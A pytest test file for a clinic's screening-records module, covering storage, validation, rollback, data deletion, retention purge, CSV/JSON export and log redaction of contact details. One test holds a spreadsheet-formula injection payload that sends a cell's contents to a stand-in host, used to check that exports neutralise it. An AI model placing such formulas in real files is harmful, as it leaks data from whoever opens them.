"""The clinic's records (actions/records): API, transactions, validation, command line, logs."""

from __future__ import annotations

import csv
import io
import json
import logging
from datetime import datetime, timedelta, timezone

import pytest
import sqlalchemy as sa

from actions.records import (
    InvalidRecord, RecordsUnavailable, forget_runner, save_contact_request, save_screen, validate_email,
    validate_phone,
)
from actions.records import cli
from actions.records.models import metadata
from actions.screen_state import answers_and_result, knowledge
from actions.screening import clinician_summary
from core import database, privacy
from tests.actions.test_actions import FULL_GAIT_ANALYSIS
from tests.persistence.conftest import everything_about, postgres_stopped, table_rows

EMAIL, PHONE = "Jane.Runner@Example.COM", "+1 (555) 014-2000"


def a_summary() -> dict:
    answers, result = answers_and_result(FULL_GAIT_ANALYSIS)
    return clinician_summary(answers, result, knowledge(), datetime(2026, 11, 2, 9, 30, tzinfo=timezone.utc))


def test_a_screen_is_stored_with_its_findings_rule_ids_and_triage(db_url):
    summary = a_summary()
    screen_id = save_screen("runner-1", summary)
    (row,) = table_rows(db_url, "screens", "runner-1")
    assert row["id"] == screen_id and row["triage"] == summary["triage"] == "gait_analysis"
    stored = row["summary"] if isinstance(row["summary"], dict) else json.loads(row["summary"])
    assert stored == json.loads(json.dumps(summary))  # the whole clinician's summary, answers included
    items = table_rows(db_url, "screen_items")
    assert {(i["kind"], i["item_id"], i["rule_id"]) for i in items if i["kind"] == "finding"} == {
        ("finding", f["id"], f["rule_id"]) for f in summary["findings"]}


def test_a_contact_request_is_stored_normalised_and_linked_to_the_latest_screen(db_url):
    first, latest = save_screen("runner-2", a_summary()), save_screen("runner-2", a_summary())
    request_id = save_contact_request("runner-2", "  Jane   Runner ", EMAIL, PHONE, "weekday  mornings")
    (row,) = table_rows(db_url, "contact_requests", "runner-2")
    assert row["id"] == request_id and latest > first and row["screen_id"] == latest
    assert (row["name"], row["email"], row["phone"], row["preferred_times"]) == (
        "Jane Runner", "Jane.Runner@example.com", "+15550142000", "weekday mornings")


@pytest.mark.parametrize("name, email, phone, problem", [
    ("", "a@b.example", None, "name"),
    ("Jo", None, None, "email address or a phone number"),
    ("Jo", "not an email", None, "email address is not valid"),
    ("Jo", None, "call me maybe", "phone number is not valid"),
])
def test_an_incomplete_contact_request_is_refused_without_echoing_it(db_url, name, email, phone, problem):
    with pytest.raises(InvalidRecord) as refused:
        save_contact_request("runner-3", name, email, phone, "any time")
    assert problem in str(refused.value)
    for value in filter(None, (email, phone)):
        assert value not in str(refused.value)
    assert table_rows(db_url, "contact_requests") == []


@pytest.mark.parametrize("text, expected", [
    (" Jane.Doe@Example.COM ", "Jane.Doe@example.com"), ("<jo+run@mail.co.uk>", "jo+run@mail.co.uk"),
    ("mailto:a.b@c.io", "a.b@c.io"), ("jane@example", None), ("jane@@example.com", None), ("two@a.com b@c.com", None),
    ("", None), (None, None), ("jane doe@example.com", None), ("a" * 65 + "@example.com", None),
])
def test_validate_email(text, expected):
    assert validate_email(text) == expected


@pytest.mark.parametrize("text, expected", [
    ("(555) 014-2000", "5550142000"), ("+44 20 7946 0958", "+442079460958"), ("0044 20 7946 0958", "+442079460958"),
    ("555.014.2000 ext. 12", "5550142000"), ("07700 900123", "07700900123"), ("12345", None),
    ("+1 555 0142 0000 0000 00", None), ("555-CALL-NOW", None), ("+0 555 014 2000", None), ("5+55 0142000", None),
    ("(555 014 2000", None), ("", None), (None, None),
])
def test_validate_phone(text, expected):
    assert validate_phone(text) == expected


def test_a_write_that_fails_half_way_leaves_nothing(db_url):
    """The screen row is written, then its items fail: the whole screen is rolled back."""
    engine = database.engine_for(db_url)
    save_screen("warm-up", a_summary())  # schema in place, so only the failing write is measured

    def fail_on_items(conn, cursor, statement, *args):
        if statement.lstrip().upper().startswith("INSERT INTO SCREEN_ITEMS"):
            raise sa.exc.OperationalError(statement, {}, Exception("disk I/O error (injected)"))

    sa.event.listen(engine, "before_cursor_execute", fail_on_items)
    try:
        with pytest.raises(RecordsUnavailable):
            save_screen("half-way", a_summary())
    finally:
        sa.event.remove(engine, "before_cursor_execute", fail_on_items)
    assert everything_about(db_url, "half-way") == {"events": [], "screens": [], "contact_requests": [],
                                                    "orphan screen_items": []}


def test_with_postgresql_stopped_a_write_fails_clearly_and_writes_nothing(new_pg_url, monkeypatch):
    url = new_pg_url()
    monkeypatch.setenv("DATABASE_URL", url)
    save_screen("before", a_summary())
    with postgres_stopped():
        with pytest.raises(RecordsUnavailable) as down:
            save_screen("while-down", a_summary())
        with pytest.raises(RecordsUnavailable):
            save_contact_request("while-down", "Jane", EMAIL, None, "mornings")
    assert "cannot be reached" in str(down.value) and "nothing was done" in str(down.value)
    assert EMAIL.lower() not in str(down.value).lower()
    # back up: the pool reconnects by itself, and nothing of the failed writes is there
    assert everything_about(url, "while-down") == {"events": [], "screens": [], "contact_requests": [],
                                                   "orphan screen_items": []}
    save_screen("after", a_summary())
    assert len(table_rows(url, "screens")) == 2


def test_forget_runner_deletes_screens_contact_requests_and_the_conversation(db_url):
    save_screen("forget-me", a_summary())
    save_contact_request("forget-me", "Jane", EMAIL, PHONE, "mornings")
    save_screen("keep-me", a_summary())
    from rasa.core.tracker_store import SQLTrackerStore

    engine = database.engine_for(db_url)
    SQLTrackerStore.Base.metadata.create_all(engine)  # conversations in Rasa's own events table
    with engine.begin() as connection:
        connection.execute(SQLTrackerStore.SQLEvent.__table__.insert(), [
            {"sender_id": sender, "type_name": "user", "timestamp": 1.0, "data": "{}"}
            for sender in ("forget-me", "forget-me", "keep-me")])
    counts = forget_runner("forget-me")
    assert counts == {"screens": 1, "contact_requests": 1, "tracker_events": 2}
    assert everything_about(db_url, "forget-me") == {"events": [], "screens": [], "contact_requests": [],
                                                     "orphan screen_items": []}
    assert len(everything_about(db_url, "keep-me")["events"]) == 1
    assert len(everything_about(db_url, "keep-me")["screens"]) == 1


def test_export_csv_opens_with_the_expected_columns(db_url, tmp_path, capsys):
    summary = a_summary()
    save_screen("csv-runner", summary)
    save_contact_request("csv-runner", "Jane Runner", EMAIL, None, "weekday mornings")
    out = tmp_path / "screens.csv"
    assert cli.main(["export", "--format", "csv", "--out", str(out)]) == 0
    with out.open(newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        rows = list(reader)
    assert reader.fieldnames == cli.SCREEN_CSV_COLUMNS
    assert reader.fieldnames[:5] == ["screen_id", "runner", "screened_at", "saved_at", "triage"]
    (row,) = rows
    assert row["triage"] == "gait_analysis" and row["runner"] == "csv-runner"
    assert row["findings"].split() == [f["id"] for f in summary["findings"]]
    assert set(row["rule_ids"].split()) >= {f["rule_id"] for f in summary["findings"]}
    assert (row["contact_name"], row["contact_email"], row["preferred_times"]) == (
        "Jane Runner", "Jane.Runner@example.com", "weekday mornings")
    assert cli.main(["export", "--format", "csv", "--what", "contacts"]) == 0
    contacts = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert list(contacts[0]) == cli.CONTACT_CSV_COLUMNS and contacts[0]["email"] == "Jane.Runner@example.com"


def test_export_json_list_and_show(db_url, tmp_path, capsys):
    screen_id = save_screen("json-runner", a_summary())
    assert cli.main(["export", "--format", "json", "--out", str(tmp_path / "s.json")]) == 0
    (exported,) = json.loads((tmp_path / "s.json").read_text())
    assert exported["screen_id"] == screen_id and exported["summary"]["triage"] == "gait_analysis"
    capsys.readouterr()
    assert cli.main(["list"]) == 0
    assert "json-runner" in capsys.readouterr().out
    assert cli.main(["show", str(screen_id)]) == 0
    assert "clinician summary" in capsys.readouterr().out
    assert cli.main(["show", "999"]) == 1


def test_the_clinic_can_forget_a_runner_found_by_email(db_url, capsys):
    save_screen("by-email", a_summary())
    save_contact_request("by-email", "Jane", EMAIL, None, "mornings")
    assert cli.main(["forget", "--email", " jane.runner@example.com".replace("jane.runner", "Jane.Runner"),
                     "--yes"]) == 0
    assert "forgot by-email" in capsys.readouterr().out
    assert everything_about(db_url, "by-email")["screens"] == []


def test_purge_deletes_what_is_older_than_the_retention(db_url, capsys):
    save_screen("old", a_summary())
    save_contact_request("old", "Old Runner", EMAIL, None, "any")
    engine = database.engine_for(db_url)
    long_ago = datetime.now(timezone.utc) - timedelta(days=200)
    with engine.begin() as connection:
        connection.execute(sa.text("UPDATE screens SET created_at = :t"), {"t": long_ago})
        connection.execute(sa.text("UPDATE contact_requests SET created_at = :t"), {"t": long_ago})
    save_screen("new", a_summary())
    assert cli.retention_days() == 90  # clinic/clinic.yml
    assert cli.main(["purge", "--dry-run"]) == 0
    assert "1 screens, 1 contact_requests" in capsys.readouterr().out
    assert len(table_rows(db_url, "screens")) == 2
    assert cli.main(["purge", "--yes"]) == 0
    assert [row["sender_id"] for row in table_rows(db_url, "screens")] == ["new"]
    assert table_rows(db_url, "contact_requests") == [] and len(table_rows(db_url, "screen_items")) > 0


def test_the_record_tables_are_the_ones_bot_database_deletes_from():
    assert set(database.RECORD_TABLES) == set(metadata.tables)


def test_contact_details_never_reach_the_logs(db_url, caplog):
    privacy.install()
    with caplog.at_level(logging.DEBUG):
        save_screen("log-runner", a_summary())
        save_contact_request("log-runner", "Jane Runner", EMAIL, PHONE, "weekday mornings")
        logging.getLogger("rasa.core.channels.rest").error("rest.message.received.failure text='%s'",
                                                           f"it's {EMAIL} or {PHONE}")
        try:
            raise ValueError(f"bad input {EMAIL}")
        except ValueError:
            logging.getLogger("test").exception("failed")
    logged = caplog.text + "".join(r.exc_text or "" for r in caplog.records)
    for secret in (EMAIL, EMAIL.lower(), "Jane Runner", "555", "014-2000", "5550142000"):
        assert secret.lower() not in logged.lower(), secret
    assert "[email]" in logged and "[phone]" in logged


@pytest.mark.parametrize("text", [
    "2026-11-24 04:44:22 INFO Rasa server is up", "http://127.0.0.1:5005/webhook", "model screener-663d63b85f7e",
    "timestamp 1700000000.123", "3 of 10 turns, 12 ms",
])
def test_redaction_leaves_ordinary_log_lines_alone(text):
    assert privacy.redact(text) == text


def test_export_csv_cells_never_run_as_formulas_and_phones_stay_text(db_url, tmp_path):
    save_screen("csv-attacker", a_summary())
    save_contact_request("csv-attacker", '=HYPERLINK("http://evil.example/?"&A1,"click")', None,
                         "07700 900123", "@SUM(1+1) or -1")
    out = tmp_path / "screens.csv"
    assert cli.main(["export", "--format", "csv", "--out", str(out)]) == 0
    with out.open(newline="", encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["contact_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["preferred_times"] == "'@SUM(1+1) or -1"
    assert row["contact_phone"] == "'07700900123"
    assert row["triage"] == "gait_analysis"  # ordinary cells untouched
    for cell in row.values():
        assert not cell.startswith(cli.FORMULA_STARTS), cell
